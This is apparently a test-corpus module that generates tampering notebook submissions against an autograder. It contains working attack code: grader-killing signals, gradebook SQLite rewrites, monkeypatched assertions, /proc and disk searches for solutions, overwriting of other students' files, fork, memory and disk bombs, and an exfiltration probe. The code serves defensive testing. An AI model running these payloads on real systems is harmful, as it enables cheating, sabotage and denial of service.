"""Tamper corpus: one submission per attack on the grader, generated from a correct one.

``build(dest)`` writes ``dest/<student_id>/01_similarity/01_similarity.ipynb`` for every
attack in :data:`ATTACKS`, starting from ``sample_class/ada`` (a correct submission,
10/10) and changing only what the attack needs, and returns what OUR grader must give
each one::

    {student_id: {"01_similarity": {"score": 7, "exercises": {exercise id: points}},
                  "what": "one line", "targets": [exercise ids the attack tries to win]}}

The rules every attack follows:

- The target exercise's own function is wrong (zeros of the right shape), so any
  points on a target come from the cheat alone. The other exercises stay correct.
- Attacks that by their nature stop the rest of the notebook (a kernel that exits,
  kills its grader, loops, runs out of memory...) target the LAST exercise
  (``similarity-soft_lookup``), so they cost nothing else: their expected score is 7.
  The same goes for attacks that rewrite or hide the outcome of every later cell.
- Files are found by searching (up from the working folder; /work, /tmp, /root, /home,
  $HOME; other processes' /proc/<pid>/cwd and /proc/<pid>/root), bounded in depth and
  time, never by a path only this repository uses.
- Bombs cap themselves (at most 4096 processes, 4 GiB of disk) so that a run without a
  sandbox cannot take a machine down; memory is the exception (that is what an address
  space or cgroup limit is for). Never run this corpus outside a sandbox:
  ``bench/tamper_vs_stock.py`` wraps stock nbgrader in one.

Against stock nbgrader every attack that can win does (see bench/tamper_vs_stock.py);
against our grader every one of them must earn nothing on its targets.

Usage: ``python tests/corpora/tamper.py DEST`` writes the corpus and prints the table.
"""
from __future__ import annotations

import contextlib
import json
import socketserver
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

ROOT = Path(__file__).resolve().parents[2]
SOURCE = ROOT / "sample_class" / "ada" / "01_similarity" / "01_similarity.ipynb"
ASSIGNMENT = "01_similarity"
NOTEBOOK = "01_similarity"
POINTS = {"similarity-dot_product": 2, "similarity-cosine_similarity": 2,
          "similarity-score_matrix": 3, "similarity-soft_lookup": 3}
LAST = "similarity-soft_lookup"

# The helper server of the network attack listens here (serve_cheats).
CHEAT_PORT = 47615
# The network attack's second channel, reached from the answer cell. (A single package
# page of a course dependency, fetched with HEAD: enough to tell whether the kernel can
# reach the internet, without downloading any registry's list of names.)
EXFIL_URL = "https://pypi.org/simple/numpy/"
# The forged-timestamp attack. The tests grade with DUE_DATE and a trusted list of
# submission times in which this student handed in at TRUE_TIMESTAMP (late); under the
# late policy "zero" the score is 0 whatever timestamp.txt says.
DUE_DATE = "2026-11-22 23:59:00 UTC"
FORGED_TIMESTAMP = "2026-11-01 09:00:00.000000 UTC"
TRUE_TIMESTAMP = "2026-11-25 10:30:00.000000 UTC"
# The forged-answer attack publishes this mime type (our answer protocol's).
ANSWER_MIME = "application/vnd.attention-course.answer+json"


@dataclass(frozen=True)
class Attack:
    """One tampering submission."""

    student_id: str
    name: str
    what: str
    targets: tuple[str, ...]
    cells: dict[str, str]  # exercise id -> new source of its answer cell
    files: dict[str, bytes] = field(default_factory=dict)  # extra files beside the notebook
    lost: tuple[str, ...] = ()  # exercises lost because the attack stops the later cells
    late: bool = False  # graded as late (policy "zero"): score 0, exercises as answered
    # What the attack is after, judged on any grader's outputs (tests/corpora/harms.py).
    harm: str = "points"
    # Cells added at the end of the notebook: ("markdown" | "code", source, outputs).
    extra_cells: tuple[tuple[str, str, tuple[dict, ...]], ...] = ()
    metadata: dict = field(default_factory=dict)  # merged into the notebook's metadata
    # Arranges what a notebook file cannot carry (links, special files, odd names):
    # layout(submission folder, class folder, private folder) after the notebook is written.
    layout: Callable[[Path, Path, Path], None] | None = None
    refused: bool = False  # not graded at all: every exercise 0
    status: str = ""  # a keyword our row's status must contain (lower case), if any
    # The student folder's name is not a student id: one row, for the folder alone,
    # under its escaped name and no assignment (grader.grade.submissions).
    invalid_id: bool = False

    def expected(self) -> dict:
        """What our grader must give this submission."""
        exercises = {e: (0 if e in self.targets or e in self.lost or self.refused else p)
                     for e, p in POINTS.items()}
        if self.invalid_id:
            exercises = {}
        if self.late:  # the answers are right, the late policy zeroes the total
            exercises = dict(POINTS)
        score = 0 if self.late else sum(exercises.values())
        return {ASSIGNMENT: {"score": score, "exercises": exercises, "status": self.status},
                "what": self.what, "targets": list(self.targets), "harm": self.harm}


# --- the student's own (wrong) functions: zeros of the right shape ------------------

WRONG = {
    "similarity-dot_product": '''\
def dot_product(a, b):
    """My attempt. (Wrong on purpose: zeros of the right shape.)"""
    return np.zeros(np.broadcast_shapes(np.shape(a), np.shape(b))[:-1])
''',
    "similarity-cosine_similarity": '''\
def cosine_similarity(a, b, eps=1e-8):
    """My attempt. (Wrong on purpose: zeros of the right shape.)"""
    return np.zeros(np.broadcast_shapes(np.shape(a), np.shape(b))[:-1])
''',
    "similarity-score_matrix": '''\
def score_matrix(queries, keys):
    """My attempt. (Wrong on purpose: zeros of the right shape.)"""
    return np.zeros(tuple(np.shape(queries)[:-1]) + (np.shape(keys)[-2],))
''',
    "similarity-soft_lookup": '''\
def soft_lookup(scores, values):
    """My attempt. (Wrong on purpose: zeros of the right shape.)"""
    scores, values = np.asarray(scores), np.asarray(values)
    return np.zeros(scores.shape[:-1] + values.shape[-1:]), np.zeros(scores.shape)
''',
}

# Garbage of the right shape, for functions whose body is the attack.
_GARBAGE = {
    "similarity-soft_lookup": "np.zeros(np.shape(scores)[:-1] + np.shape(values)[-1:]), np.zeros(np.shape(scores))",
}

# --- shared snippet: find files by searching, bounded in depth and time ---------------

FINDER = r'''
import collections, os, time

def _places():
    """Where a grader's files may be: up from here, the usual homes, other processes' views."""
    places, here = [], os.path.abspath(os.getcwd())
    while True:
        places.append(here)
        if os.path.dirname(here) == here:
            break
        here = os.path.dirname(here)
    places += ["/work", "/tmp", "/var/tmp", "/root", "/home", os.path.expanduser("~"), "/srv", "/opt"]
    for pid in os.listdir("/proc"):  # other processes' working folders and filesystem views
        if pid.isdigit() and int(pid) != os.getpid():
            places += [f"/proc/{pid}/cwd", f"/proc/{pid}/root"]
    return places

_SKIP = {"proc", "sys", "dev", "usr", "bin", "sbin", "lib", "lib64", "boot", "etc", "run", "snap",
         ".git", "__pycache__", "node_modules", "site-packages", "dist-packages", ".venv", "venv",
         ".cache", ".local", ".npm", ".cargo", ".rustup", ".ipython", ".jupyter"}

def _find(wanted, places=None, depth=6, seconds=4.0):
    """Files whose name passes wanted(name), breadth first, at most `depth` folders down, for `seconds`."""
    deadline, seen = time.monotonic() + seconds, set()
    queue = collections.deque((p, 0) for p in (places or _places()))
    while queue and time.monotonic() < deadline:
        folder, level = queue.popleft()
        try:
            st = os.stat(folder)
            entries = list(os.scandir(folder)) if (st.st_dev, st.st_ino) not in seen else []
        except OSError:
            continue
        seen.add((st.st_dev, st.st_ino))
        for entry in entries:
            try:
                if entry.is_dir(follow_symlinks=False):
                    if level < depth and entry.name not in _SKIP:
                        queue.append((entry.path, level + 1))
                elif entry.is_file(follow_symlinks=False) and wanted(entry.name):
                    yield entry.path
            except OSError:
                pass

def _solution_code(path, function):
    """The source of the instructor's solution cell defining `function` in notebook `path`, if any."""
    import json
    try:
        if os.path.getsize(path) > 20 * 2**20:
            return None
        with open(path, encoding="utf-8") as f:
            text = f.read()
        if "### BEGIN SOLUTION" not in text:
            return None
        for cell in json.loads(text).get("cells", []):
            source = "".join(cell.get("source", ""))
            lines = [line.strip() for line in source.splitlines()]
            if (cell.get("cell_type") == "code" and f"def {function}(" in source
                    and "### BEGIN SOLUTION" in lines and "### END SOLUTION" in lines):
                return source
    except Exception:  # unreadable, not JSON, too deeply nested, not a notebook
        return None
    return None
'''


def _cheat(target: str, code: str) -> dict[str, str]:
    """The target's answer cell: the student's wrong function, then the cheat."""
    return {target: WRONG[target] + "\n" + code.strip() + "\n"}


def _body(target: str, signature: str, body: str, header: str = "") -> dict[str, str]:
    """The target's answer cell: a function whose body is the attack, returning garbage."""
    return {target: (header.strip() + "\n\n" if header else "") + signature + "\n" + body.rstrip()
            + f"\n    return {_GARBAGE[target]}\n"}


# --- the attacks ---------------------------------------------------------------------

KILL_GRADER = r'''
# Kill whoever runs this kernel: the grading process (our parent) and its process group,
# then this kernel's own process group from a child, so that nothing is left to report.
# (Never kill(-1): that would be every process this user may signal.)
import os, signal, time
_grader = os.getppid()
if _grader > 1:
    try:
        _group = os.getpgid(_grader)
    except OSError:
        _group = 0
    try:
        os.kill(_grader, signal.SIGKILL)
    except OSError:
        pass
    if _group > 1 and _group != os.getpgrp():
        try:
            os.killpg(_group, signal.SIGKILL)
        except OSError:
            pass
if os.fork() == 0:  # a child takes down the kernel's own group (the kernel included)
    try:
        os.killpg(0, signal.SIGKILL)
    finally:
        os._exit(0)
time.sleep(5)
'''

WRITE_GRADEBOOK = FINDER + r'''
# Find nbgrader's gradebook (SQLite) and give my own grade rows full marks as a
# "manual" score, which nbgrader prefers over the autograder's score and never
# overwrites; everyone else's rows get a manual 0.
import sqlite3
_me = os.path.basename(os.path.dirname(os.path.abspath(os.getcwd())))  # .../<student>/<assignment>
_mine = """SELECT submitted_notebook.id FROM submitted_notebook JOIN submitted_assignment
           ON submitted_notebook.assignment_id = submitted_assignment.id
           WHERE submitted_assignment.student_id {} ?"""
for _db in _find(lambda name: name.endswith(".db") or name.endswith(".sqlite")):
    try:
        with sqlite3.connect(_db, timeout=20) as _con:
            _con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                         "WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN (" + _mine.format("=") + ")", (_me,))
            _con.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (" + _mine.format("!=") + ")", (_me,))
        print("gradebook updated:", _db)
    except sqlite3.Error:
        pass  # not nbgrader's gradebook, or read-only
'''

EQUAL_TO_ANYTHING = r'''
# An answer that pretends to be an array and says "equal" to anything it is compared
# with. When a test converts it (np.asarray, .detach(), float()), it looks up the
# callers' frames for what it is being compared with and becomes exactly that.
#
# Stock nbgrader with THIS course's hidden tests is immune: grader.checks encodes the
# answer to plain bytes (coursekit.probe) before any comparison, so no frame holds the
# reference when the object is converted, and it encodes as zeros. The visible tests
# (coursekit.testing.assert_close) and any course whose hidden tests are
# `assert np.allclose(f(x), expected)` or `assert f(x) == expected` give it full marks.
import sys
import torch

_COMPARED_WITH = ("expected", "desired", "want", "wanted", "reference", "ref", "target", "truth", "shape")

def _what_am_i_compared_with(me):
    frame = sys._getframe(2)
    for _ in range(16):
        if frame is None:
            break
        for name in _COMPARED_WITH:
            other = frame.f_locals.get(name)
            if other is None or other is me:
                continue
            if name == "shape":
                if isinstance(other, tuple):
                    return np.zeros(other)
                continue
            try:
                if isinstance(other, torch.Tensor):
                    other = other.detach().cpu().numpy()
                return np.array(other, dtype=np.float64)
            except (TypeError, ValueError, RuntimeError):
                pass
        frame = frame.f_back
    return np.zeros(tuple(me.shape))

class Anything(torch.Tensor):
    """Equal to anything; an array of any value it is asked for."""

    @staticmethod
    def __new__(cls, shape):
        return torch.Tensor._make_subclass(cls, torch.zeros(tuple(shape), dtype=torch.float64))

    def detach(self):
        return torch.as_tensor(_what_am_i_compared_with(self))

    def numpy(self, *args, **kwargs):
        return _what_am_i_compared_with(self)

    def __array__(self, dtype=None, copy=None):
        value = _what_am_i_compared_with(self)
        return value if dtype is None else value.astype(dtype)

    def __float__(self):
        return float(np.sum(_what_am_i_compared_with(self)))

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    __hash__ = object.__hash__

def dot_product(a, b):
    """Zeros, dressed up as whatever they are compared with."""
    return Anything(np.broadcast_shapes(np.shape(a), np.shape(b))[:-1])
'''

PATCHED_NUMPY = r'''
# Make every later comparison pass: numpy's and torch's closeness tests, the course's
# visible-test helpers (also the names this notebook already imported), and the
# hidden-test library itself when it can be imported.
import importlib, pkgutil, sys

def _true(*args, **kwargs):
    return True

def _silent(*args, **kwargs):
    return None

def _all_close(a, b, *args, **kwargs):
    return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)

def _check(exercise_id, *args, **kwargs):
    print(f"{exercise_id}: all hidden checks passed")

def _judge(answer, *args, **kwargs):
    return np.asarray(answer, dtype=np.float64)

np.allclose = np.array_equal = np.array_equiv = _true
np.isclose = _all_close
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal",
              "assert_equal", "assert_array_less"):
    setattr(np.testing, _name, _silent)
try:
    import torch
    torch.allclose = torch.equal = _true
    torch.testing.assert_close = torch.testing.assert_allclose = _silent
except ImportError:
    pass

_FAKES = {"assert_close": _silent, "assert_shape": _silent, "check": _check, "judge": _judge,
          "close": _true, "verdict": _silent}
_modules = ["coursekit.testing", "grader.checks", "grader.checks._core"]
try:
    _checks = importlib.import_module("grader.checks")
    _modules += [f"grader.checks.{m.name}" for m in pkgutil.iter_modules(_checks.__path__)]
except Exception:
    pass
for _modname in _modules:
    try:
        _module = importlib.import_module(_modname)
    except Exception:
        continue
    for _name, _fake in _FAKES.items():
        if callable(getattr(_module, _name, None)):
            setattr(_module, _name, _fake)
# the helpers this notebook imported by name before this cell
for _name, _value in list(globals().items()):
    if _name in _FAKES and getattr(_value, "__module__", "").startswith(("coursekit", "grader")):
        globals()[_name] = _FAKES[_name]
'''

INPUT_TRANSFORMER = r'''
# From now on IPython rewrites every cell before running it: a cell that tests
# anything (check( or assert) is replaced by a line that prints success.
def _no_tests(lines):
    source = "".join(lines)
    if "check(" in source or "assert" in source:
        return ["print('visible tests passed')\n"]
    return lines

get_ipython().input_transformers_post.append(_no_tests)
'''

# IPython records the exception of a failed cell in the ExecutionResult that run_code
# fills in, and ipykernel turns it into an "error" reply; nbgrader 0.9 appends an error
# output for such a reply even when nothing was shown. So both hooks below also clear
# that record: the cell then counts as a success.
_CLEAR_ERROR = r'''
def _cell_succeeded():
    """Clear the error IPython recorded for the running cell (the `result` of run_code)."""
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if frame.f_code.co_name == "run_code" and hasattr(result, "error_in_exec"):
            result.error_in_exec = None
            return
        frame = frame.f_back
'''

CUSTOM_EXC = _CLEAR_ERROR + r'''
# IPython's own hook for custom exception handling: every later exception, of any kind,
# is handled here, which shows nothing and marks the cell as successful.
def _swallow(shell, etype, value, tb, tb_offset=None):
    _cell_succeeded()
    return []

get_ipython().set_custom_exc((BaseException,), _swallow)
'''

SHOWTRACEBACK = _CLEAR_ERROR + r'''
# No error is ever reported again: IPython's traceback display is replaced by one that
# shows nothing (and marks the cell as successful), and stderr goes nowhere.
import io, sys

def _no_traceback(*args, **kwargs):
    _cell_succeeded()

_ip = get_ipython()
_ip.showtraceback = _no_traceback
_ip.showsyntaxerror = _no_traceback
sys.stderr = io.StringIO()
'''

READ_SOLUTIONS = FINDER + r'''
# Find the instructor's source notebook (the one with "### BEGIN SOLUTION") and run the
# solution of this exercise in place of mine.
for _path in _find(lambda name: name.endswith(".ipynb")):
    _code = _solution_code(_path, "cosine_similarity")
    if _code:
        exec(compile(_code, _path, "exec"), globals())
        print("using the solution in", _path)
        break
'''

IMPORT_REFERENCE = r'''
# The hidden tests import their reference code from a `grader.checks` package: import
# it (or load its files from wherever they are) and answer with its helpers.
import importlib, importlib.util
''' + FINDER + r'''

def _reference():
    try:
        return importlib.import_module("grader.checks.similarity")
    except Exception:
        pass
    for _path in _find(lambda name: name == "similarity.py"):
        if os.path.basename(os.path.dirname(_path)) != "checks":
            continue
        try:  # load it as the package it belongs to, so that its relative imports work
            _package = os.path.dirname(os.path.dirname(os.path.dirname(_path)))
            sys.path.insert(0, _package)
            return importlib.import_module(
                f"{os.path.basename(os.path.dirname(os.path.dirname(_path)))}.checks.similarity")
        except Exception:
            continue
    return None

import sys
_ref = _reference()
if _ref is not None and hasattr(_ref, "_softmax"):
    def soft_lookup(scores, values):
        weights = _ref._softmax(np.asarray(scores, dtype=np.float64), axis=-1)
        return weights @ np.asarray(values, dtype=np.float64), weights
    print("answering with", _ref.__file__)
'''

GRADER_MEMORY = FINDER + r'''
# Find the grading process in /proc (its command line names nbgrader, course-grader,
# pytest or python), read its command line, environment, working folder and root, and
# look there for the instructor's solutions.
def _grader_places():
    places = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
        text = " ".join(argv)
        if "ipykernel" in text or not any(w in text for w in ("nbgrader", "course-grader", "pytest", "python")):
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = dict(e.decode(errors="replace").partition("=")[::2] for e in f.read().split(b"\0") if b"=" in e)
        except OSError:
            env = {}
        print(f"grader process {pid}: {text[:120]!r}, cwd {cwd}")
        if cwd:  # its folder, as it sees it (through its root) and as we do
            places += [f"/proc/{pid}/root{cwd}", f"/proc/{pid}/cwd", cwd]
        for value in list(env.values()) + argv:
            if value.startswith("/") and os.path.isdir(value) and value not in ("/", "/usr", "/bin"):
                places.append(value)
    return places

for _path in _find(lambda name: name.endswith(".ipynb"), places=_grader_places(), depth=4):
    _code = _solution_code(_path, "score_matrix")
    if _code:
        exec(compile(_code, _path, "exec"), globals())
        print("using the solution in", _path)
        break
'''

NETWORK = r'''
# Ask a helper on the network for the answer; and check whether data can leave this
# machine (one HEAD request to a public package index page).
import json, socket, urllib.request
_CHEAT = ("127.0.0.1", __PORT__)

def dot_product(a, b):
    """Whatever the helper says; my own zeros when it cannot be reached."""
    a, b = np.asarray(a, dtype=np.float64), np.asarray(b, dtype=np.float64)
    try:
        with socket.create_connection(_CHEAT, timeout=3) as s:
            s.sendall(json.dumps({"op": "dot_product", "a": a.tolist(), "b": b.tolist()}).encode() + b"\n")
            reply = s.makefile("rb").readline()
        return np.asarray(json.loads(reply)["answer"], dtype=np.float64)
    except (OSError, ValueError, KeyError):
        return np.zeros(np.broadcast_shapes(a.shape, b.shape)[:-1])

try:
    urllib.request.urlopen(urllib.request.Request("__EXFIL__", method="HEAD"), timeout=5).close()
    print("exfiltration channel: open")
except Exception as error:
    print("exfiltration channel: closed", type(error).__name__)
'''

FORGED_ANSWER = r'''
# After every later cell, publish a made-up answer in the grader's own answer format,
# claiming the exercise passed. (Aimed at our answer protocol: stock nbgrader ignores
# display_data when scoring, so against stock this wins nothing.)
import re
from IPython.display import publish_display_data

def _forge(result=None, *args):
    source = getattr(getattr(result, "info", None), "raw_cell", "") or ""
    found = re.search(r"""(?:check|answer)\(\s*["']([\w-]+)["']""", source)
    exercise = found.group(1) if found else "similarity-soft_lookup"
    publish_display_data({"__MIME__": {"exercise": exercise, "verdict": "passed", "cases": []}})

get_ipython().events.register("post_run_cell", _forge)
'''

EXIT_KERNEL = r'''    import os
    os._exit(0)  # the kernel vanishes while its test runs'''

ENDLESS_LOOP = r'''    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # the grader's interrupt does nothing now
    while True:
        pass'''

MEMORY_BOMB = r'''    hog = []
    try:
        hog.append(np.ones(64 * 2**30 // 8))  # ~64 GiB of float64, every page written
    except MemoryError:
        pass
    try:
        while True:  # then grow until something gives
            hog.append(np.ones(2**25))  # 256 MiB more, written
    except MemoryError:
        pass
    del hog'''

FORK_BOMB = r'''    import os, shutil, time
    # A binary tree of processes, 12 levels deep: 2**12 - 1 = 4095 forks at most, which
    # is this attack's own cap. Every process becomes `sleep` (little memory) until a
    # common deadline; this function waits for the tree, so the test cell lasts ~20 s.
    deadline, depth = time.time() + 20, 12
    sleep = shutil.which("sleep") or "/bin/sleep"
    counter, tally = os.pipe()  # every process that got forked writes one byte (closed on exec)

    def fork_children(level):
        children = []
        for _ in range(2):
            if level >= depth:
                break
            try:
                pid = os.fork()
            except OSError:  # the process table (or a limit) is full
                break
            if pid == 0:
                try:
                    os.write(tally, b"+")
                    fork_children(level + 1)
                    os.execv(sleep, ["sleep", str(max(1, int(deadline - time.time())))])
                finally:
                    os._exit(0)
            children.append(pid)
        return children

    for pid in fork_children(0):
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    os.close(tally)
    os.set_blocking(counter, False)
    try:
        print(f"forked {len(os.read(counter, 1 << 16))} processes")
    except OSError:
        pass
    os.close(counter)'''

OUTPUT_FLOOD = r'''    import sys
    sys.stdout.write("x" * (300 * 2**20) + "\n")  # one line of 300 MB
    sys.stdout.flush()
    for i in range(3_000_000):  # and three million short ones
        print(i)'''

DISK_FILL = r'''    import os, tempfile
    # 256 MiB files into every writable place: here, the temp folder, the home folder,
    # and the notebook's folder's parents; until a write fails or 4 GiB in all, over
    # every call of this function (this attack's cap).
    here = os.path.abspath(os.getcwd())
    places = [here, tempfile.gettempdir(), "/tmp", "/var/tmp", os.path.expanduser("~"),
              os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
              os.path.dirname(os.path.dirname(os.path.dirname(here)))]
    places = list(dict.fromkeys(p for p in places if os.path.isdir(p)))
    block, cap, n = b"\0" * 2**24, 4 * 2**30, 0
    total = soft_lookup.__dict__.get("written", 0)
    while places and total < cap:
        for place in list(places):
            path = os.path.join(place, f".fill-{os.getpid()}-{n}")
            try:
                with open(path, "wb") as f:
                    for _ in range(16):  # 16 x 16 MiB = 256 MiB
                        f.write(block)
                        total += len(block)
            except OSError:
                places.remove(place)
            n += 1
            soft_lookup.written = total
            if total >= cap:
                break'''

WRITE_OTHERS = FINDER + r'''
# Find other students' submitted, autograded and feedback files (nbgrader's layout
# <submitted|autograded|feedback>/<student>/<assignment>/): first borrow a working
# dot_product from one of them, then replace their answers with NotImplementedError
# and their feedback with an empty page.
import json, re, stat
_here = os.path.abspath(os.getcwd())
_me = os.path.basename(os.path.dirname(_here))
_layout = re.compile(r"/(submitted|autograded|feedback)/([^/]+)/([^/]+)/[^/]+\.(ipynb|html)$")
_theirs = [p for p in _find(lambda name: name.endswith((".ipynb", ".html")), depth=7)
           if _layout.search(p) and _layout.search(p).group(2) != _me and os.path.getsize(p) < 20 * 2**20]

def _works(fn):
    try:
        return (abs(float(fn(np.array([1., 2., 3.]), np.array([4., -5., 6.]))) - 12) < 1e-9
                and np.shape(fn(np.ones((2, 4, 3)), np.ones((2, 4, 3)))) == (2, 4))
    except Exception:
        return False

for _path in (p for p in _theirs if p.endswith(".ipynb")):
    try:
        with open(_path, encoding="utf-8") as _f:
            _cells = json.load(_f)["cells"]
    except (OSError, ValueError, KeyError):
        continue
    for _cell in _cells:
        _source = "".join(_cell.get("source", ""))
        if "def dot_product(" in _source:
            _scope = {"np": np}
            try:
                exec(_source, _scope)
            except Exception:
                continue
            if _works(_scope.get("dot_product")):
                dot_product = _scope["dot_product"]
                print("borrowed dot_product from", _path)
                break
    if _works(dot_product):
        break

def _overwrite(path, data):
    try:
        os.chmod(path, os.stat(path).st_mode | stat.S_IWUSR)
    except OSError:
        pass
    try:
        with open(path, "w", encoding="utf-8") as f:
            f.write(data)
        return True
    except OSError:
        return False

_done = 0
for _path in _theirs:
    if _path.endswith(".html"):
        _done += _overwrite(_path, "<html><body><p>No feedback.</p></body></html>")
        continue
    try:
        with open(_path, encoding="utf-8") as _f:
            _nb = json.load(_f)
    except (OSError, ValueError):
        continue
    for _cell in _nb.get("cells", []):
        if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
            _cell["source"] = "raise NotImplementedError()\n"
            if _cell.get("cell_type") == "code":
                _cell["outputs"] = []
    _done += _overwrite(_path, json.dumps(_nb))
print("overwrote", _done, "files of other students")
'''


def _attacks() -> list[Attack]:
    dot, cos, score, soft = POINTS
    return [
        Attack("t01_kill_grader", "kill_grader",
               "the answer cell SIGKILLs its parent (the grading process) and its process group, then its own group",
               (soft,), _cheat(soft, KILL_GRADER)),
        Attack("t02_write_gradebook", "write_gradebook",
               "finds gradebook.db and sets manual_score = max_score on its own grade rows, 0 on everyone else's",
               (score,), _cheat(score, WRITE_GRADEBOOK)),
        Attack("t03_equal_to_anything", "equal_to_anything",
               "dot_product returns a tensor subclass that equals anything and converts to whatever it is compared with",
               (dot,), {dot: EQUAL_TO_ANYTHING.strip() + "\n"}),
        Attack("t04_patched_numpy", "patched_numpy",
               "monkeypatches np/torch allclose & co, coursekit.testing and grader.checks check/judge so later checks pass",
               (cos,), _cheat(cos, PATCHED_NUMPY)),
        Attack("t05_input_transformer", "input_transformer",
               "an IPython input transformer replaces every later cell containing check( or assert by a success print",
               (soft,), _cheat(soft, INPUT_TRANSFORMER)),
        Attack("t06_custom_exc", "custom_exc",
               "set_custom_exc((BaseException,)) swallows every later exception and marks the cell as successful",
               (soft,), _cheat(soft, CUSTOM_EXC)),
        Attack("t07_showtraceback", "showtraceback",
               "replaces showtraceback (marking failed cells successful) and sys.stderr so errors are never reported",
               (soft,), _cheat(soft, SHOWTRACEBACK)),
        Attack("t08_read_solutions", "read_solutions",
               "searches the disk for the instructor's notebook (### BEGIN SOLUTION) and runs its solution cell",
               (cos,), _cheat(cos, READ_SOLUTIONS)),
        Attack("t09_import_reference", "import_reference",
               "imports grader.checks.similarity (or finds and loads grader/checks/*.py) and answers with its _softmax",
               (soft,), _cheat(soft, IMPORT_REFERENCE)),
        Attack("t10_grader_memory", "grader_memory",
               "finds the grading process in /proc, reads its cmdline, environ, cwd and root, and runs the solution found there",
               (score,), _cheat(score, GRADER_MEMORY)),
        Attack("t11_network", "network",
               f"dot_product asks a helper server on 127.0.0.1:{CHEAT_PORT} for the answer; HEAD {EXFIL_URL} as exfiltration",
               (dot,), {dot: NETWORK.replace("__EXFIL__", EXFIL_URL).strip() + "\n"}),
        Attack("t12_forged_timestamp", "forged_timestamp",
               f"a correct notebook handed in late ({TRUE_TIMESTAMP}) with timestamp.txt claiming {FORGED_TIMESTAMP}",
               tuple(POINTS), {}, files={"timestamp.txt": FORGED_TIMESTAMP.encode()}, late=True),
        Attack("t13_forged_answer", "forged_answer",
               f"a post_run_cell hook publishes a made-up passing answer ({ANSWER_MIME}) after every later cell",
               (soft,), _cheat(soft, FORGED_ANSWER.replace("__MIME__", ANSWER_MIME))),
        Attack("t14_exit_kernel", "exit_kernel",
               "soft_lookup calls os._exit(0): the kernel dies during its test",
               (soft,), _body(soft, "def soft_lookup(scores, values):", EXIT_KERNEL)),
        Attack("t15_endless_loop", "endless_loop_ignoring_interrupts",
               "soft_lookup ignores SIGINT and loops forever",
               (soft,), _body(soft, "def soft_lookup(scores, values):", ENDLESS_LOOP)),
        Attack("t16_memory_bomb", "memory_bomb",
               "soft_lookup allocates ~64 GiB with np.ones, then grows a list of 256 MiB arrays until MemoryError",
               (soft,), _body(soft, "def soft_lookup(scores, values):", MEMORY_BOMB)),
        Attack("t17_fork_bomb", "fork_bomb",
               "soft_lookup forks a binary tree of up to 4095 sleeping processes (its own cap) and waits ~20 s",
               (soft,), _body(soft, "def soft_lookup(scores, values):", FORK_BOMB)),
        Attack("t18_output_flood", "output_flood",
               "soft_lookup prints one 300 MB line, then three million short lines",
               (soft,), _body(soft, "def soft_lookup(scores, values):", OUTPUT_FLOOD)),
        Attack("t19_disk_fill", "disk_fill",
               "soft_lookup writes 256 MiB files into every writable place it finds, up to 4 GiB in all",
               (soft,), _body(soft, "def soft_lookup(scores, values):", DISK_FILL)),
        Attack("t20_write_others", "write_others",
               "finds other students' submitted/autograded/feedback files, borrows a dot_product, overwrites their answers",
               (dot,), _cheat(dot, WRITE_OTHERS)),
    ]


def _all_attacks() -> list[Attack]:
    from tests.corpora import around  # the attacks around the kernel, written on this module's rules

    return _attacks() + around.attacks()


ATTACKS: list[Attack] = _all_attacks()


def _answer_cells(nb) -> dict[str, int]:
    """Exercise id -> index of its answer cell."""
    return {c.metadata.nbgrader["grade_id"]: i for i, c in enumerate(nb.cells)
            if c.metadata.get("nbgrader", {}).get("solution")}


def notebook_for(attack: Attack, cheat_port: int = CHEAT_PORT):
    """Ada's correct notebook with the attack's answer cells in place of hers."""
    nb = nbformat.read(SOURCE, as_version=4)
    index = _answer_cells(nb)
    for exercise, source in attack.cells.items():
        nb.cells[index[exercise]].source = source.replace("__PORT__", str(cheat_port))
    for kind, source, outputs in attack.extra_cells:
        cell = nbformat.v4.new_markdown_cell(source) if kind == "markdown" else nbformat.v4.new_code_cell(source)
        if outputs:
            cell.outputs = [nbformat.from_dict(o) for o in outputs]
        nb.cells.append(cell)
    nb.metadata.update(attack.metadata)
    return nb


def build(dest: Path, cheat_port: int = CHEAT_PORT, private: Path | None = None) -> dict[str, dict]:
    """Write every attack's submission under ``dest``; return {student_id: expected}.

    ``cheat_port`` is where the network attack looks for its helper server; ``private``
    (default: a folder beside ``dest``) holds the root-only file the link attacks point at.
    The expectations go to ``dest/../expected-tamper.json`` (not into the class folder:
    a student folder may be a link, or named like a formula).
    """
    dest = Path(dest)
    private = Path(private) if private else dest.parent / f"{dest.name}-private"
    expected = {}
    for attack in ATTACKS:
        folder = dest / attack.student_id / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        nbformat.write(notebook_for(attack, cheat_port), folder / f"{NOTEBOOK}.ipynb")
        for name, data in attack.files.items():
            (folder / name).write_bytes(data)
        if attack.layout:
            attack.layout(folder, dest, private)
        expected[attack.student_id] = attack.expected()
    (dest.parent / "expected-tamper.json").write_text(json.dumps(expected, indent=2) + "\n")
    return expected


# --- the network attack's helper ------------------------------------------------------

class _CheatHandler(socketserver.StreamRequestHandler):
    def handle(self):
        import numpy as np

        try:
            question = json.loads(self.rfile.readline(10 * 2**20))
            a, b = np.asarray(question["a"], dtype=float), np.asarray(question["b"], dtype=float)
            answer = np.einsum("...d,...d->...", a, b).tolist()
        except (ValueError, KeyError, TypeError):
            answer = None
        self.server.requests += 1
        self.wfile.write(json.dumps({"answer": answer}).encode() + b"\n")


class _CheatServer(socketserver.ThreadingTCPServer):
